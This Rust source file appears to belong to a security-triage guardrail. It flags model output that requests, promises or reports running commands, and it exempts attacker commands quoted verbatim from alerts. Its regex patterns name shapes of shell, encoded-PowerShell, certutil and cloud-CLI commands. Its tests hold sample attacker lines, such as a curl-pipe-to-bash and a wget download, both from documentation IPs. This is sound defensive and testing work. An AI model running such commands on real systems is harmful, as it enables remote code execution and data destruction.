//! Direct-execution detection: the model may propose, never run.
//!
//! Three signals: keys that ask for or report execution, commands in free text, and wording
//! that the system did or will carry out an action. A command the attacker ran, copied
//! verbatim from the alert and presented as what the alert shows, is evidence rather than
//! a proposal; the same text asked for, promised or reported as run ("Run `…`", "I will
//! execute …") is a proposal, since alert text is attacker-chosen and must not open the
//! check (`evidence[].quote` is exempt: it must match its source verbatim anyway).

use std::ops::Range;
use std::sync::LazyLock;

use regex::{Regex, RegexSet};
use serde_json::Value;

use crate::corpus::fold_whitespace;

/// One finding, with where it was found.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub path: String,
    pub detail: String,
}

static EXEC_KEY: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)^(execute|execution|exec|execute_now|auto_?execute|executed|command|commands|cmd|cmdline|script|scripts|run|run_?command|runnable|shell|shell_?command|powershell|payload|api_call|http_request|remediation_script|playbook_run)$",
    )
});
static EXEC_STATUS: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)^(executed|executing|running|ran|done|completed|applied|performed|in_progress|succeeded)$"));

/// `(label, pattern)`: command shapes in free text.
static COMMANDS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        ("code block", r"```"),
        ("shell command", r"(?i)\b(?:sudo\s+\S+|(?:ba|z|da)?sh\s+-c\s|rm\s+-[rf]{1,2}\s|chmod\s+[+0-7]|chown\s+\S+|kill\s+-\d|pkill\s+\S|systemctl\s+(?:stop|disable|start|restart|mask)\s|iptables\s+-[AIDF]|ufw\s+(?:deny|allow)\s|userdel\s|usermod\s+-|passwd\s+-|crontab\s+-[re])"),
        ("piped shell", r"\|\s*(?:sudo\s+)?(?:ba)?sh\b"),
        ("PowerShell cmdlet", r#"\b(?:(?:Invoke-(?:Expression|Command|Item)|Stop-(?:Process|Service|Computer)|Remove-(?:Item|ADUser|MailboxRule|InboxRule|AzureADUser|MgUser)|Disable-(?:ADAccount|LocalUser|NetAdapter|AzureADUser)|Set-(?:ADUser|MpPreference|ExecutionPolicy|Mailbox|InboxRule|NetFirewallProfile)|New-(?:NetFirewallRule|Object\s+Net\.WebClient)|Start-Process|Revoke-(?:AzureADUserAllRefreshToken|MgUserSignInSession)|Restart-Computer)\s+(?:-\w|['"$(]|\w)|\bIEX\s*[($])"#),
        ("PowerShell invocation", r"(?i)\bpowershell(?:\.exe)?\s+-(?:e|ec|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|ep|executionpolicy)\b"),
        ("cmd command", r"(?i)\b(?:cmd(?:\.exe)?\s+/[ck]\s|net\s+(?:user|group|localgroup|stop|use)\s+\S|taskkill\s+/|sc(?:\.exe)?\s+(?:stop|delete|config|create)\s|reg(?:\.exe)?\s+(?:add|delete)\s|wmic\s+\S|schtasks\s+/(?:create|delete|change|run)|netsh\s+\S|vssadmin\s+\S|bcdedit\s+/|certutil\s+-)"),
        ("cloud CLI", r"\b(?:aws\s+(?:iam|s3|s3api|ec2|sts|lambda|kms|secretsmanager|organizations|cloudtrail|configure|ssm|rds|eks|logs|guardduty|ecr|ecs|route53|dynamodb|sso|sso-admin|identitystore|cloudformation)\s+[a-z0-9-]+|az\s+(?:ad|vm|role|account|keyvault|storage|group|login|network|aks)\s+[a-z]+|gcloud\s+(?:beta\s+|alpha\s+)?[a-z-]+\s+[a-z-]+|gsutil\s+[a-z]+|kubectl\s+[a-z][a-z-]+|terraform\s+(?:apply|destroy|import)|gh\s+(?:api|auth|repo|secret)\s+\S)"),
        ("HTTP call", r"(?i)\b(?:curl|wget)(?:\.exe)?\s+(?:-{1,2}[A-Za-z]|https?://|\S+\.\S+/)|\bInvoke-(?:WebRequest|RestMethod)\s+(?:-\w|https?://|\S+\.\S+/)|\b(?:GET|POST|PUT|DELETE|PATCH)\s+(?:https?://|/api/|/v\d/)\S*"),
        ("SQL statement", r"\b(?:DROP\s+(?:TABLE|DATABASE|USER|SCHEMA)|DELETE\s+FROM\s+\w|UPDATE\s+\w+\s+SET\s|INSERT\s+INTO\s+\w|TRUNCATE\s+TABLE|ALTER\s+(?:TABLE|USER|ROLE)\s|GRANT\s+\w+\s+ON\s|REVOKE\s+\w+\s+ON\s)|(?i:\bdrop\s+table\s+\w|\bdelete\s+from\s+\w+\s+where\b)"),
    ]
    .into_iter()
    .map(|(label, pattern)| (label, re(pattern)))
    .collect()
});

/// `(label, pattern)`: wording that the system did or will act.
static WORDING: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    const VERBS: &str = r"(?:isolat|disabl|revok|rotat|block|kill|quarantin|delet|execut|contain|remov|reset|terminat|shut|wip|suspend|lock|deactivat|purg|ban|launch|trigger|appl|run|ran\b|push|deploy|initiat)";
    [
        ("the system acting", format!(r"(?i)\b(?:i|we|triage|the system|this system|the service|this service|the assistant|this assistant|the platform|automation|the soar)\s+(?:have|has|had|will|shall|am|are|is|'ve|'ll|already|just|now)\s+(?:now\s+|already\s+|just\s+|also\s+|automatically\s+|immediately\s+|gone\s+ahead\s+and\s+|proceeded\s+to\s+|taken\s+(?:the\s+)?(?:liberty|step)\s+(?:of|to)\s+)*(?:be(?:en)?\s+|be\s+)?{VERBS}\w*")),
        ("first person acting", format!(r"(?i)\b(?:i|we)\s+(?:{VERBS}\w*ed|{VERBS}\w*)\s+(?:the|this|that|host|account|key|token|user|it|them)\b")),
        ("passive with the system as agent", format!(r"(?i)\b(?:has|have|was|were|will\s+be|is\s+being|are\s+being)\s+(?:been\s+)?(?:automatically\s+|now\s+|already\s+)?{VERBS}\w*\s+by\s+(?:triage|the system|this system|the service|this service|automation|the automation|the automated response|automated response|the playbook|the soar|the assistant|me|us)\b")),
        ("automatic action", format!(r"(?i)\b(?:automatically|auto-?)\s*{VERBS}\w*")),
        ("in progress", format!(r"(?i)\b(?:is|are)\s+(?:being|now\s+being)\s+{VERBS}\w*\s+(?:now|right now|automatically|as we speak|by\s+(?:the\s+)?(?:automat\w+|soar|playbook|triage|system))")),
        ("executing now", r"(?i)\b(?:executing|running|initiating|performing|carrying out|applying|deploying)\s+(?:the\s+|a\s+|this\s+)?(?:containment|isolation|remediation|command|script|playbook|action|fix|block|quarantine)s?\b(?:\s+\w+){0,3}\s+(?:now|immediately|right away)\b".to_string()),
        ("execution status", r"(?i)\bstatus\s*[:=]\s*(?:executed|completed|done|applied)\b|\b(?:action|containment|remediation|command)\s+(?:was\s+|has\s+been\s+)?(?:executed|carried out|completed successfully)\b".to_string()),
    ]
    .into_iter()
    .map(|(label, pattern)| (label, re(&pattern)))
    .collect()
});

/// Every pattern of [`COMMANDS`] then [`WORDING`] in one set: most text matches none, and
/// one pass says so (or which to look at) where sixteen searches did.
static ANY: LazyLock<RegexSet> = LazyLock::new(|| {
    let patterns = COMMANDS.iter().chain(WORDING.iter()).map(|(_, r)| r.as_str());
    RegexSet::new(patterns).unwrap_or_else(|e| panic_set(&e))
});

#[allow(clippy::panic)]
fn panic_set(e: &regex::Error) -> RegexSet {
    panic!("invalid built-in pattern set: {e}")
}

fn re(pattern: &str) -> Regex {
    // The patterns are constants checked by the tests below; an invalid one must fail loudly there.
    Regex::new(pattern).unwrap_or_else(|e| unreachable_pattern(pattern, &e))
}

#[allow(clippy::panic)]
fn unreachable_pattern(pattern: &str, e: &regex::Error) -> Regex {
    panic!("invalid built-in pattern {pattern}: {e}")
}

/// Keys anywhere in the raw output that ask for or report execution.
pub fn scan_keys(value: &Value) -> Vec<Finding> {
    let mut out = Vec::new();
    walk_keys(value, "", &mut out);
    out
}

fn walk_keys(value: &Value, path: &str, out: &mut Vec<Finding>) {
    match value {
        Value::Object(o) => {
            for (k, v) in o {
                let p = if path.is_empty() { k.clone() } else { format!("{path}.{k}") };
                if EXEC_KEY.is_match(k) {
                    out.push(Finding { path: p.clone(), detail: format!("key `{k}` asks for or reports execution") });
                } else if k.eq_ignore_ascii_case("status") && v.as_str().is_some_and(|s| EXEC_STATUS.is_match(s.trim())) {
                    out.push(Finding { path: p.clone(), detail: format!("`status: {}` reports an execution", v.as_str().unwrap_or_default()) });
                }
                walk_keys(v, &p, out);
            }
        }
        Value::Array(a) => {
            for (i, v) in a.iter().enumerate() {
                walk_keys(v, &format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// Commands and execution wording in one free-text field. `alert_text` is the folded text
/// of every alert in the request: alert text quoted as data is not a proposal, unless the
/// wording around it asks for or reports running it.
pub fn scan_text(path: &str, text: &str, alert_text: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    let matched = ANY.matches(text);
    if !matched.matched_any() {
        return out;
    }
    let (commands, wording) = (COMMANDS.iter().enumerate(), WORDING.iter().enumerate().map(|(i, p)| (i + COMMANDS.len(), p)));
    for (_, (label, pattern)) in commands.filter(|(i, _)| matched.matched(*i)) {
        for m in pattern.find_iter(text) {
            if !is_alert_data(text, m.start(), m.end(), alert_text, true) {
                out.push(Finding { path: path.to_string(), detail: format!("{label}: `{}`", snippet(text, m.start(), m.end())) });
                break;
            }
        }
    }
    for (_, (label, pattern)) in wording.filter(|(i, _)| matched.matched(*i)) {
        // Wording is alert data only when quoted: unquoted, it is the answer speaking.
        if let Some(m) = pattern.find_iter(text).find(|m| !is_alert_data(text, m.start(), m.end(), alert_text, false)) {
            out.push(Finding { path: path.to_string(), detail: format!("{label}: `{}`", snippet(text, m.start(), m.end())) });
        }
    }
    out
}

/// Whether a match is alert data presented as data rather than a proposal (contract
/// section 1: every alert value is untrusted, so its presence in the alert alone must not
/// open the exemption). Two shapes qualify:
///
/// - a quoted region (backticks or quotation marks) whose whole content is verbatim alert
///   text — how the baseline and an analyst-facing model echo alert values;
/// - for commands only (`bare`), the command as written — the matched words and the
///   arguments that follow them — verbatim in the alerts. A model that composes new
///   arguments (another URL, another flag, another process name) is proposing.
///
/// Either way, wording around it that asks for, promises or reports running it (an
/// imperative, first person or the system as the actor, a modal "should be run") makes it
/// a proposal again, whatever the quoted text is.
fn is_alert_data(text: &str, start: usize, end: usize, alert_text: &str, bare: bool) -> bool {
    if alert_text.is_empty() {
        return false;
    }
    let alerts = alert_text.to_lowercase();
    let end = start + text[start..end].trim_end().len();
    let quoted = quoted_regions(text).into_iter().find(|q| q.inner.start <= start && end <= q.inner.end && verbatim_in(&text[q.inner.clone()], &alerts));
    let span = match quoted {
        Some(q) => q.outer,
        None if bare => match bare_command(text, start, end, &alerts) {
            Some(span) => span,
            None => return false,
        },
        None => return false,
    };
    !proposal_around(text, span)
}

/// One quoted region: the quotation marks included (`outer`) and only their content (`inner`).
#[derive(Debug, Clone, PartialEq)]
struct Quoted {
    outer: Range<usize>,
    inner: Range<usize>,
}

/// The quoted regions of a text, left to right; inside one, only its own closing mark ends
/// it, so a backtick inside "…" does not open another. A `'` counts only at word edges: an
/// apostrophe opens nothing.
fn quoted_regions(text: &str) -> Vec<Quoted> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some((open, c)) = text[from..].char_indices().map(|(i, c)| (from + i, c)).find(|&(i, c)| opens(text, i, c)) {
        let body = open + c.len_utf8();
        let close = closing_mark(c).and_then(|mark| text[body..].char_indices().map(|(i, d)| (body + i, d)).find(|&(i, d)| d == mark && closes(text, i, d)));
        match close {
            Some((at, d)) => {
                out.push(Quoted { outer: open..at + d.len_utf8(), inner: body..at });
                from = at + d.len_utf8();
            }
            None => from = body,
        }
    }
    out
}

fn closing_mark(open: char) -> Option<char> {
    match open {
        '`' | '"' | '\'' => Some(open),
        '“' => Some('”'),
        _ => None,
    }
}

fn opens(text: &str, at: usize, c: char) -> bool {
    match c {
        '`' | '"' | '“' => true,
        '\'' => text[..at].chars().next_back().is_none_or(|p| p.is_whitespace() || "([{:".contains(p)),
        _ => false,
    }
}

fn closes(text: &str, at: usize, c: char) -> bool {
    c != '\'' || text[at + 1..].chars().next().is_none_or(|n| !n.is_alphanumeric())
}

/// Folded text found as it is in the (folded, lowercased) alerts.
fn verbatim_in(quoted: &str, alerts: &str) -> bool {
    let q = fold_whitespace(quoted).to_lowercase();
    !q.trim().is_empty() && alerts.contains(q.trim())
}

/// The span of an unquoted command as written, when it appears verbatim in the alerts: the
/// match widened to whole words, then the arguments that follow, up to the first plain
/// word of prose that no option (`-x`, `/x`) follows.
fn bare_command(text: &str, start: usize, end: usize, alerts: &str) -> Option<Range<usize>> {
    let word_char = |c: char| !c.is_whitespace() && !is_quote_mark(c);
    let start = text[..start].char_indices().rev().find(|(_, c)| !word_char(*c)).map(|(i, c)| i + c.len_utf8()).unwrap_or(0);
    let mut end = end + text[end..].find(|c: char| !word_char(c)).unwrap_or(text.len() - end);
    let line_end = end + text[end..].find(|c: char| c == '\n' || is_quote_mark(c)).unwrap_or(text.len() - end);
    let tokens: Vec<&str> = text[end..line_end].split_whitespace().collect();
    for (k, token) in tokens.iter().enumerate() {
        let prose = token.trim_end_matches([',', '.', ';', ':', ')']).chars().all(char::is_alphabetic);
        let option_follows = tokens.get(k + 1).is_some_and(|t| t.len() > 1 && (t.starts_with('-') || t.starts_with('/')));
        if prose && !option_follows {
            break;
        }
        end = offset_in(text, token) + token.len();
    }
    // A match can run into the quote or bracket that closes it (`"Non sudo setuid" from …`,
    // `(…, powershell.exe -NoP -enc)`).
    let span = fold_whitespace(&text[start..end]);
    let span = span.trim_matches(|c: char| is_quote_mark(c) || matches!(c, ',' | '.' | ';' | ':' | '(' | ')')).to_lowercase();
    (!span.is_empty() && alerts.contains(&span)).then_some(start..end)
}

fn is_quote_mark(c: char) -> bool {
    matches!(c, '`' | '"' | '\'' | '“' | '”')
}

/// Where `part`, a slice of `text`, starts in it.
fn offset_in(text: &str, part: &str) -> usize {
    part.as_ptr() as usize - text.as_ptr() as usize
}

/// Verbs of running something, as stems.
const RUN: &str = r"(?:re-?)?(?:run|ran|execut|exec|invok|launch|issu|perform|trigger|deploy)\w*";
/// Who counts as the system acting: the model speaking for itself or the service.
const SELF: &str =
    r"(?:i|we|triage|the\s+system|this\s+system|the\s+service|this\s+service|the\s+assistant|this\s+assistant|the\s+platform|automation|the\s+soar)";

/// Wording before alert data, in the same sentence, that turns it into a proposal.
static LEAD_CUES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    let adverbs = r"(?:(?:please|now|then|next|first|just|simply|immediately|go\s+ahead\s+and|you\s+(?:should|must|can|may|need\s+to))[\s,]+)*";
    [
        // An imperative opening the sentence: "Run `…`", "Please execute …".
        format!(r"(?i)^\W*{adverbs}(?:(?:re-?)?(?:run|execute|exec|invoke|launch|issue|perform|trigger|deploy|apply|paste|type|enter|kill|stop|terminate|block)|try)\b"),
        format!(r"(?i)^\W*{adverbs}use\s+(?:the\s+)?(?:following\s+)?(?:command|cmdlet|script)?\W*$"),
        // A request or recommendation to run it, whoever would: "analysts should run …".
        format!(r"(?i)\b(?:should|must|shall|need\s+to|needs\s+to|have\s+to|has\s+to|let\s+me|let's|let\s+us|please|recommend(?:ed|s)?|suggest(?:ed|s)?|advise[sd]?|proceed\s+to)\s+(?:(?:now|then|immediately|also|first|just|simply|be|to)\s+)*{RUN}"),
        // The model or the system as the one running it: "I will execute …", "We ran …".
        format!(r"(?i)\b{SELF}(?:'ll|'m|'re|'ve|'d)?\s+(?:(?:will|shall|am|are|is|have|has|had|can|would|just|now|already|also|then|going\s+to|about\s+to|be|been|proceed(?:ed|ing)?\s+to)\s+)*{RUN}"),
        // "Executing …" opening the sentence: the answer reports doing it.
        r"(?i)^\W*(?:now\s+)?(?:re-?)?(?:executing|invoking|launching|issuing|deploying|now\s+running)\b".to_string(),
        // A step label: "Next step: `…`", "Remediation: …".
        r"(?i)\b(?:next\s+step|step\s*\d+|remediation|remediate|fix|containment|command\s+to\s+run|to\s+contain|to\s+remediate|run\s+this)\s*:\s*$".to_string(),
    ]
    .iter()
    .map(|p| re(p))
    .collect()
});

/// Wording after alert data, in the same sentence, that turns it into a proposal.
static TRAIL_CUES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)\b(?:should|must|shall|will|needs\s+to|has\s+to|is\s+to|are\s+to)\s+(?:\w+\s+)?be\s+(?:re-?)?(?:run|executed|invoked|launched|issued|applied|performed|deployed|triggered)\b".to_string(),
        format!(r"(?i)\b{SELF}(?:'ll|'m|'re|'ve|'d)?\s+(?:(?:will|shall|am|are|is|have|has|had|can|would|just|now|already|also|then|going\s+to|about\s+to|be|been)\s+)*{RUN}"),
    ]
    .iter()
    .map(|p| re(p))
    .collect()
});

/// Whether the sentence around `span` asks for, promises or reports running it.
fn proposal_around(text: &str, span: Range<usize>) -> bool {
    let lead = &text[sentence_start(text, span.start)..span.start];
    let trail = &text[span.end..sentence_end(text, span.end)];
    LEAD_CUES.iter().any(|r| r.is_match(lead)) || TRAIL_CUES.iter().any(|r| r.is_match(trail))
}

/// Sentences end at `;`, a line break, `!`, `?`, or a `.` before whitespace (so
/// `powershell.exe` does not end one).
fn ends_sentence(text: &str, at: usize, c: char) -> bool {
    matches!(c, ';' | '\n' | '!' | '?') || (c == '.' && text[at + 1..].chars().next().is_none_or(char::is_whitespace))
}

fn sentence_start(text: &str, at: usize) -> usize {
    text[..at].char_indices().rev().find(|&(i, c)| ends_sentence(text, i, c)).map(|(i, c)| i + c.len_utf8()).unwrap_or(0)
}

fn sentence_end(text: &str, at: usize) -> usize {
    text[at..].char_indices().find(|&(i, c)| ends_sentence(text, at + i, c)).map(|(i, _)| at + i).unwrap_or(text.len())
}

fn snippet(text: &str, start: usize, end: usize) -> String {
    let mut s: String = text[start..end].chars().take(80).collect();
    if end - start > 80 {
        s.push('…');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const ALERT: &str = "powershell.exe -NoP -W Hidden -enc SQBFAFgA curl -s http://198.51.100.7/x.sh | bash";

    #[test]
    fn every_pattern_compiles() {
        assert!(!COMMANDS.is_empty() && !WORDING.is_empty());
        assert!(EXEC_KEY.is_match("execute"));
    }

    #[test]
    fn flags_keys_and_status() {
        assert_eq!(scan_keys(&json!({"a": [{"command": "x"}]}))[0].path, "a[0].command");
        assert_eq!(scan_keys(&json!({"proposed_actions": [{"status": "executed"}]})).len(), 1);
        assert!(scan_keys(&json!({"status": "pending"})).is_empty());
    }

    #[test]
    fn flags_new_commands_but_not_attacker_quotes() {
        for bad in [
            "Run `aws iam delete-access-key --access-key-id X` now",
            "Contain with kubectl delete pod web-1 -n prod",
            "Use Stop-Process -Name evil to stop it",
            "curl -X POST https://soar.local/api/isolate",
            "Then DROP TABLE users; to be safe",
            "```\nrm -rf /tmp/x\n```",
        ] {
            assert!(!scan_text("summary", bad, ALERT).is_empty(), "{bad}");
        }
        for ok in [
            "The attacker ran curl -s http://198.51.100.7/x.sh | bash on web-03.",
            "Word spawned powershell.exe -NoP -W Hidden -enc SQBFAFgA, a classic macro chain.",
            "Recommend isolating WS-042 pending approval; look for other hosts with encoded PowerShell.",
            "Analysts should review CloudTrail for further CreateAccessKey calls by this identity.",
        ] {
            assert!(scan_text("hypothesis", ok, ALERT).is_empty(), "{ok}: {:?}", scan_text("h", ok, ALERT));
        }
    }

    #[test]
    fn a_quoted_rule_name_is_not_a_proposal() {
        let alerts = "Non sudo setuid Detect attempts to change users through setuid";
        assert!(scan_text("hypothesis", "\"Non sudo setuid\" from falco matches a runbook.", alerts).is_empty());
        assert!(!scan_text("hypothesis", "Run sudo setuid 0 on the host.", alerts).is_empty());
    }

    #[test]
    fn flags_execution_wording() {
        for bad in [
            "I have isolated WS-042.",
            "The host has been isolated by triage.",
            "Triage will automatically disable the account.",
            "We have revoked the key.",
            "Executing containment now.",
            "The account was automatically disabled",
        ] {
            assert!(!scan_text("summary", bad, ALERT).is_empty(), "{bad}");
        }
        for ok in ["The key should be revoked after approval.", "An approver may isolate the host.", "Previously the account was disabled by the IAM team."] {
            assert!(scan_text("summary", ok, ALERT).is_empty(), "{ok}");
        }
    }

    /// Alert text is attacker-chosen: its presence in the alert lets the answer quote it,
    /// never ask for, promise or report running it.
    #[test]
    fn alert_text_does_not_open_the_check_for_proposals() {
        let alerts = "note: try Stop-Process -Name next time CommandLine powershell -enc AAAA";
        for bad in [
            "Execute Stop-Process -Name lsass -Force",
            "Execute `powershell -enc AAAA`",
            "not json at all; run powershell -enc AAAA",
            "I will execute `powershell -enc AAAA` on WS-042.",
            "Executing `powershell -enc AAAA` now.",
            "Analysts should run `powershell -enc AAAA` to reproduce it.",
            "`powershell -enc AAAA` should be run again on the host.",
            "Stop-Process -Name lsass -Force",
        ] {
            assert!(!scan_text("summary", bad, alerts).is_empty(), "{bad}");
        }
        for ok in [
            "The alert shows `powershell -enc AAAA` run by winword.exe.",
            "The note mentions \"Stop-Process -Name\", which the attacker may have tried.",
            "Word spawned powershell -enc AAAA; look for it on other hosts.",
        ] {
            assert!(scan_text("hypothesis", ok, alerts).is_empty(), "{ok}: {:?}", scan_text("h", ok, alerts));
        }
    }

    #[test]
    fn execution_wording_is_data_only_when_quoted_from_the_alerts() {
        let alerts = "comment: We have isolated the host already";
        assert!(!scan_text("summary", "We have isolated the host already.", alerts).is_empty());
        assert!(scan_text("hypothesis", "The ticket comment reads \"We have isolated the host already\".", alerts).is_empty());
        assert!(!scan_text("hypothesis", "The comment says \"We have isolated the host\" and I have isolated it too.", alerts).is_empty());
    }

    #[test]
    fn quoted_regions_pair_their_own_marks() {
        let text = "\"it's `odd`\" and 'x' and `a \"b`";
        let regions: Vec<&str> = quoted_regions(text).iter().map(|q| &text[q.inner.clone()]).collect();
        assert_eq!(regions, ["it's `odd`", "x", "a \"b"]);
    }

    /// Phrasings written apart from the guardrail corpus, so the rules are not only tuned
    /// to the text they were developed on.
    #[test]
    fn held_out_phrasings() {
        let alert = "wget -q http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; certutil -urlcache -f http://203.0.113.4/a.exe a.exe";
        for bad in [
            "Next step: `gcloud iam service-accounts keys delete 1234 --iam-account=x@p.iam.gserviceaccount.com`",
            "az ad user update --id bob@corp.example --account-enabled false",
            "Please invoke Disable-ADAccount -Identity jdoe before the weekend.",
            "schtasks /delete /tn Updater /f on the host",
            "Block via iptables -A INPUT -s 203.0.113.9 -j DROP",
            "We will now disable the service account.",
            "The playbook is being run automatically.",
            "Send DELETE https://graph.microsoft.com/v1.0/users/jdoe to remove the user.",
            "Fetch the sample again with wget -q http://198.51.100.99/m -O /tmp/m2",
        ] {
            assert!(!scan_text("summary", bad, alert).is_empty(), "{bad}");
        }
        for ok in [
            "The dropper ran wget -q http://198.51.100.7/m -O /tmp/m and then made it executable.",
            "Look for other invocations of certutil across the fleet.",
            "If approved, a SOAR would isolate WS-042.",
            "Rotate the key after approval; confirm with the owner first.",
            "The key was created with aws-cli/2.15.0 from 203.0.113.50.",
            "The account was disabled by the IAM team last year, then re-enabled.",
            "certutil -urlcache -f http://203.0.113.4/a.exe is the classic LOLBin download seen here.",
        ] {
            assert!(scan_text("hypothesis", ok, alert).is_empty(), "{ok}: {:?}", scan_text("h", ok, alert));
        }
    }
}
